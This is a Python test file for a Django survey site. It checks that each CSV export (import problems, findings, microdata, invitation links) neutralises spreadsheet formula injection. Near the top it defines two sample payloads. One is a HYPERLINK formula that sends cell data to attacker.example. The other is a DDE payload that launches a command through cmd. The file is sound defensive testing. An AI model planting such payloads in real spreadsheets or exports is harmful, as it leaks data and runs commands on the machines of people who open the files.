"""Every CSV the site writes neutralises cells a spreadsheet would run as formulas. Each writer
is given `=HYPERLINK(...)` and `@SUM(...)` in the data it writes, and read back."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from freeassoc.core.spreadsheets import neutralise
from freeassoc.findings import reports
from freeassoc.surveys.models import Response
from tests.auth import sign_in
from tests.imports.conftest import GOOD_ROWS, MAPPING
from tests.imports.test_web import csv_bytes

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for your results")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_rule():
    for value in [HYPERLINK, SUM, "+1", "-1", "\t=1", "\r=1"]:
        assert neutralise(value) == "'" + value
    assert neutralise("Plain text") == "Plain text"
    assert neutralise(-1) == -1  # numbers stay numbers
    assert neutralise("https://example.org/s/x/?t=-abc") == "https://example.org/s/x/?t=-abc"


def test_the_import_problems_csv(client, organiser, survey):
    sign_in(client, organiser)
    rows = [
        [*GOOD_ROWS[0][:2], HYPERLINK, *GOOD_ROWS[0][3:]],
        [*GOOD_ROWS[1][:2], SUM, *GOOD_ROWS[1][3:]],
    ]
    checked = client.post(
        reverse("imports:start", args=[survey.pk]),
        {
            "data": SimpleUploadedFile("theirs.csv", csv_bytes(rows)),
            "mapping": SimpleUploadedFile("map.yaml", MAPPING.encode()),
        },
    )
    token = checked["Location"].rstrip("/").rsplit("/", 1)[1]
    text = client.get(reverse("imports:problems", args=[survey.pk, token])).content.decode()
    found = cells(text)
    assert "'" + HYPERLINK in found and "'" + SUM in found
    assert HYPERLINK not in found and SUM not in found


def test_the_findings_csv(survey):
    findings = reports.survey_findings(survey)
    findings["indicators"][0]["label"] = HYPERLINK
    findings["indicators"][1]["label"] = SUM
    found = cells(reports.as_csv(findings))
    assert "'" + HYPERLINK in found and "'" + SUM in found
    assert HYPERLINK not in found and SUM not in found


def test_the_microdata_csv_and_the_codebook(client, analyst, survey):
    Response.objects.create(
        survey=survey, instrument_version=1, submitted_on="2026-03-02",
        collector_kind="open", answers={"nhs_work": "no", "comments": HYPERLINK},
    )  # fmt: skip
    Response.objects.create(
        survey=survey, instrument_version=1, submitted_on="2026-03-02",
        collector_kind="open", answers={"nhs_work": "no", "comments": SUM},
    )  # fmt: skip
    sign_in(client, analyst)
    response = client.get(f"/org/surveys/{survey.pk}/export/csv/")
    found = cells(b"".join(response.streaming_content).decode())
    assert "'" + HYPERLINK in found and "'" + SUM in found
    assert HYPERLINK not in found and SUM not in found


def test_the_invitation_links_stay_links(client, organiser, invite_collector):
    """Invitation links are the server's own (they begin with the site's address): the writer
    leaves them whole, so that a mail merge still sends working links."""
    sign_in(client, organiser)
    response = client.post(
        reverse(
            "surveys:invitations",
            args=[invite_collector.survey.pk, invite_collector.pk],
        ),
        {"count": 50},
    )
    links = cells(response.content.decode())[1:]
    assert len(links) == 50 and all(link.startswith("http://testserver/s/") for link in links)
